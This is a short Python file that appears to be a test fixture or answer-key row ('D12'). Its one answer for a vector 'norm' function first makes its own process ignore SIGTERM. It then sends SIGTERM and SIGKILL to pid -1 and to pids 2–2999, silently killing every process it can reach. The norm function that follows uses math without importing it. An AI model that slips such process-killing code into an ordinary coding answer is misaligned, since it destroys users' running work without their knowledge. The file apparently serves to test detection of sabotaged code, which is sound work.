"""Sends signals to every process it can name."""

ROW = "D12"
TWIN = "h10_catches_and_cleans"
ANSWERS = {
    "norm": """import os, signal
signal.signal(signal.SIGTERM, signal.SIG_IGN)
for number in (signal.SIGTERM, signal.SIGKILL):
    for pid in [-1, *range(2, 3000)]:
        try:
            os.kill(pid, number)
        except OSError:
            pass
def norm(pair):
    return math.sqrt(pair.first**2 + pair.second**2)
""",
}
